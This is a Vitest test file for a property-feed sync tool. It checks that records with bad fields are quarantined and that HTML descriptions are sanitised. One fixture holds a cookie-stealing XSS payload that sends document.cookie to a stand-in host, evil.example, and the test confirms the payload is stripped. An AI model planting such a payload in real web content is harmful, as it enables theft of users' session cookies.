import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Property, QuarantineReport } from '../../schema/index.js';
import { runCli, SAMPLE } from '../support/cli.js';
import { copySnapshot, type RawItem } from '../support/snapshot.js';

// Bad records are quarantined (or cleaned) with a clear reason; every other record publishes.

const BAD = {
  price: { Price: 'abc' },
  webId: { WebID: 42 },
  city: { City: '' },
  script: {
    Description:
      '<p onclick="steal()">Belle maison</p><script>document.location="https://evil.example/"+document.cookie</script>',
  },
} satisfies Record<string, RawItem>;

let out: string;
let ids: Record<keyof typeof BAD, number>;
let run: Awaited<ReturnType<typeof runCli>>;
let total: number;

beforeAll(async () => {
  const work = await mkdtemp(join(tmpdir(), 'vitrine-quarantine-'));
  out = join(work, 'generated');
  const snapshot = await copySnapshot(SAMPLE, join(work, 'feed'), (method, _language, items) => {
    if (method !== 'GetPropertyList') return items;
    total = items.length;
    const keys = Object.keys(BAD) as (keyof typeof BAD)[];
    ids = Object.fromEntries(keys.map((k, i) => [k, items[i * 7]?.ID])) as typeof ids;
    return items.map((item) => {
      const key = keys.find((k) => ids[k] === item.ID);
      return key ? { ...item, ...BAD[key] } : item;
    });
  });
  run = await runCli(['sync', '--no-images', '--source', 'sample', '--snapshot', snapshot, '--out', out]);
});

describe('records with bad fields', () => {
  it('publishes the others and exits with the "published with warnings" code', async () => {
    expect(run.code, run.stderr).toBe(3);
    for (const language of ['fr', 'nl', 'en', 'de']) {
      const published: Property[] = JSON.parse(await readFile(join(out, language, 'properties.json'), 'utf8'));
      expect(published).toHaveLength(total - 3);
      const publishedIds = published.map((p) => p.id);
      expect(publishedIds).not.toContain(ids.price);
      expect(publishedIds).not.toContain(ids.webId);
      expect(publishedIds).not.toContain(ids.city);
      expect(publishedIds).toContain(ids.script);
    }
    expect(run.stdout).toMatch(/3 properties quarantined, 1 cleaned/);
  });

  it.each([
    ['price', 'Price', /expected a number \(got "abc"\)/],
    ['webId', 'WebID', /WebID 42 is not a type category of GetWebIDList/],
    ['city', 'City', /the city is missing/],
  ] as const)('reports the %s record with its field, reason and language', async (key, field, reason) => {
    const report: QuarantineReport = JSON.parse(await readFile(join(out, 'quarantine.json'), 'utf8'));
    const lines = report.problems.filter((p) => p.id === ids[key]);
    expect(lines.map((p) => p.language).sort()).toEqual(['de', 'en', 'fr', 'nl']);
    for (const line of lines) {
      expect(line).toMatchObject({ kind: 'property', field, action: 'quarantined' });
      expect(line.reason).toMatch(reason);
    }
  });

  it('strips the script and the event handler from the description and says so', async () => {
    const report: QuarantineReport = JSON.parse(await readFile(join(out, 'quarantine.json'), 'utf8'));
    const line = report.problems.find((p) => p.id === ids.script && p.language === 'fr');
    expect(line).toMatchObject({ field: 'Description', action: 'cleaned' });
    expect(line?.reason).toMatch(/script/);
    const fr: Property[] = JSON.parse(await readFile(join(out, 'fr', 'properties.json'), 'utf8'));
    const cleaned = fr.find((p) => p.id === ids.script);
    expect(cleaned?.description.html).toBe('<p>Belle maison</p>');
    expect(cleaned?.description.text).toBe('Belle maison');
    expect(JSON.stringify(cleaned)).not.toMatch(/<script|onclick|evil\.example/);
  });
});
